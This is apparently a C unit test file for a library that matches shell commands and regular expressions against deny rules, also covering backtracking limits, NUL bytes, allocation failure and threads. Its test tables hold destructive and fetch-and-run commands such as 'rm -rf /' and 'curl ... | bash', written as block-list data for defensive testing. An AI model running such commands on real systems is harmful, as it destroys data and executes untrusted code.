/* Rules on commands and hosts: what matches, and what only looks as if it did. */
#include <pthread.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include <cmocka.h>

#include "fail_alloc.h"
#include "nacre/decide.h"
#include "nacre/own.h"

static const struct {
    const char *rule, *command;
    bool matches;
} commands[] = {
    { "rm -rf /", "rm -rf /", true },
    { "rm -rf /", "  rm \t -rf\n/  ", true },
    { "rm   -rf /", "rm -rf /", true },
    { "rm -rf /", "sudo rm -rf / --no-preserve-root", true },
    { "chmod 777", "chmod 777 secret", true },
    { "curl * | bash", "curl https://x.example/i.sh | bash", true },
    { "curl * | bash", "curl -s  a  b |\tbash -x", true },
    { "*", "anything", true },
    { "git*push", "git -C x push", true },
    { "git*push", "gitpush", true },
    { "a*b*c", "xaybzc abbc", true },
    { "*", "", true },
    { "rm -rf /", "rm -rf /tmp", false },
    { "rm -rf /", "farm -rf /", false },
    { "rm -rf /", "rm -r -f /", false },
    { "chmod 777", "chmod 7777 secret", false },
    { "curl * | bash", "curl x | bashful", false },
    { "curl * | bash", "wget x | bash", false },
    { "ls", "LS", false },
    { "ls", "", false },
    { "ls -l", "ls", false },
    { "l?", "ls", false },
    { "git*push", "legit push", false },
};

static void a_blocked_command_is_found_word_by_word(void **state)
{
    (void)state;
    for (size_t i = 0; i < NACRE_COUNT(commands); i++)
        if (nacre_command_matches(commands[i].rule, commands[i].command) !=
            commands[i].matches)
            fail_msg("'%s' in '%s'", commands[i].rule, commands[i].command);
}

/* Exponential for a matcher that moves every star. */
static void many_stars_cost_no_more_than_one(void **state)
{
    char rule[201], command[4001];

    (void)state;
    for (size_t i = 0; i < 200; i += 2)
        memcpy(rule + i, "*a", 2);
    rule[199] = 'b';
    rule[200] = '\0';
    memset(command, 'a', 4000);
    command[4000] = '\0';
    assert_false(nacre_command_matches(rule, command));
    command[3999] = 'b';
    assert_true(nacre_command_matches(rule, command));
}

static enum nacre_status compile(const char *text, struct nacre_pattern **ret_pattern,
                                 size_t *ret_offset, struct nacre_error *err)
{
    return nacre_pattern_compile(NACRE_PATTERN_POLICY, text, strlen(text), ret_pattern,
                                 ret_offset, err);
}

static struct nacre_pattern *compiled(const char *text)
{
    struct nacre_pattern *pattern = NULL;
    struct nacre_error err;
    size_t offset;

    if (compile(text, &pattern, &offset, &err) != NACRE_OK)
        fail_msg("%s: %s at %zu", text, err.text, offset);
    return pattern;
}

static const struct {
    const char *pattern, *subject;
    bool matches;
} patterns[] = {
    { ".*password.*=.*", "export DB_password_1=x", true },
    { "\\|\\s*bash", "curl x |  bash", true },
    { "eval\\s+", "x; eval  y", true },
    { "^ls$", "ls", true },
    { "gr\xc3\xbc.{2}$", "gr\xc3\xbc\xc3\x9f\xc3\xa4", true },
    { "nothing", "not\xff UTF-8", true }, /* can't be decided: denied */
    { "nothing", "nothin\xc3", true },
    { "(a+)+$", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!",
      true },
    { "^((a|a)*)*c", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!c",
      true },
    { "(?C255)x", "y", false },
    { "\\|\\s*bash", "curl x > bash", false },
    { "eval\\s+", "evaluate", false },
    { "^ls$", "ls -l", false },
    { "LS", "ls", false },
    { "x", "", false },
};

static void a_pattern_denies_what_it_cannot_decide(void **state)
{
    (void)state;
    for (size_t i = 0; i < NACRE_COUNT(patterns); i++) {
        struct nacre_pattern *pattern = compiled(patterns[i].pattern);
        const char *subject = patterns[i].subject;

        if (nacre_pattern_matches(pattern, subject, strlen(subject)) !=
            patterns[i].matches)
            fail_msg("'%s' in '%s'", patterns[i].pattern, subject);
        nacre_pattern_free(pattern);
    }
}

/* An honest long command must not be denied for its length alone. */
static void a_long_subject_is_still_decided(void **state)
{
    struct nacre_pattern *slow = compiled("(?:x|y)+[0-9]"); /* quadratic */
    struct nacre_pattern *loop = compiled("x+[0-9]");       /* and so, faster */
    struct nacre_pattern *pattern = compiled(".*password.*=.*");
    size_t count = (size_t)32 << 10;
    char *subject = malloc(count + 1);

    (void)state;
    memset(subject, 'x', count);
    assert_false(nacre_pattern_matches(slow, subject, 500));
    assert_true(nacre_pattern_matches(slow, subject, 10000)); /* too many steps */
    assert_false(nacre_pattern_matches(loop, subject, 5000));
    assert_true(nacre_pattern_matches(loop, subject, count));
    assert_false(nacre_pattern_matches(pattern, subject, count));
    memcpy(subject + count - 10, "password=1", 10);
    assert_true(nacre_pattern_matches(pattern, subject, count));
    memset(subject, 'x', count + 1);
    assert_true(nacre_pattern_matches(pattern, subject, count + 1)); /* too long */
    free(subject);
    nacre_pattern_free(slow);
    nacre_pattern_free(loop);
    nacre_pattern_free(pattern);
}

static void a_pattern_sees_past_a_nul(void **state)
{
    struct nacre_pattern *pattern = compiled("eval");

    (void)state;
    assert_true(nacre_pattern_matches(pattern, "ls\0eval", 7));
    assert_false(nacre_pattern_matches(pattern, "ls\0evil", 7));
    nacre_pattern_free(pattern);
}

static void a_broken_pattern_says_where(void **state)
{
    static const struct {
        const char *text;
        size_t offset;
    } broken[] = { { "(", 1 }, { "ab[", 3 }, { "ab)", 2 }, { "+", 0 }, { "\\", 1 } };

    (void)state;
    for (size_t i = 0; i < NACRE_COUNT(broken); i++) {
        struct nacre_pattern *pattern = NULL;
        struct nacre_error err = { .status = NACRE_OK };
        size_t offset = 99;

        assert_int_equal(compile(broken[i].text, &pattern, &offset, &err),
                         NACRE_ERR_PARSE);
        assert_null(pattern);
        assert_true(err.text[0] != '\0');
        assert_int_equal(offset, broken[i].offset);
    }
}

static void compile_survives_every_allocation_failure(void **state)
{
    bool fired = true;

    (void)state;
    for (int n = 0; fired; n++) {
        struct nacre_pattern *pattern = NULL;
        struct nacre_error err = { .status = NACRE_OK };
        enum nacre_status status;
        size_t offset = 99;

        assert_true(n < 100);
        fail_alloc_after(n);
        status = compile("(a|b)+[c-f]{2,9}$", &pattern, &offset, &err);
        fired = fail_alloc_fired();
        fail_alloc_after(-1);
        assert_int_equal(status, fired ? NACRE_ERR_MEMORY : NACRE_OK);
        assert_int_equal(err.status, status);
        assert_int_equal(pattern == NULL, fired);
        nacre_pattern_free(pattern);
    }
}

static void without_memory_the_answer_is_denied(void **state)
{
    struct nacre_pattern *pattern = compiled("eval");

    (void)state;
    for (int n = 0; n < 2; n++) {
        fail_alloc_after(n);
        assert_true(nacre_pattern_matches(pattern, "ls", 2));
        fail_alloc_after(n);
        assert_true(nacre_command_matches("rm", "ls"));
    }
    fail_alloc_after(-1);
    assert_false(nacre_pattern_matches(pattern, "ls", 2));
    assert_false(nacre_command_matches("rm", "ls"));
    nacre_pattern_free(pattern);
}

static void *match_often(void *data)
{
    for (int i = 0; i < 200; i++)
        if (!nacre_pattern_matches(data, "a eval b", 8) ||
            nacre_pattern_matches(data, "a evil b", 8))
            return data;
    return NULL;
}

static void threads_share_a_pattern(void **state)
{
    struct nacre_pattern *pattern = compiled("e(v)al\\s");
    pthread_t threads[4];

    (void)state;
    for (size_t i = 0; i < NACRE_COUNT(threads); i++)
        assert_int_equal(pthread_create(&threads[i], NULL, match_often, pattern), 0);
    for (size_t i = 0; i < NACRE_COUNT(threads); i++) {
        void *failed;

        assert_int_equal(pthread_join(threads[i], &failed), 0);
        assert_null(failed);
    }
    nacre_pattern_free(pattern);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_blocked_command_is_found_word_by_word),
        cmocka_unit_test(many_stars_cost_no_more_than_one),
        cmocka_unit_test(a_pattern_denies_what_it_cannot_decide),
        cmocka_unit_test(a_long_subject_is_still_decided),
        cmocka_unit_test(a_pattern_sees_past_a_nul),
        cmocka_unit_test(a_broken_pattern_says_where),
        cmocka_unit_test(compile_survives_every_allocation_failure),
        cmocka_unit_test(without_memory_the_answer_is_denied),
        cmocka_unit_test(threads_share_a_pattern),
    };

    return cmocka_run_group_tests_name("decide", tests, NULL, NULL);
}
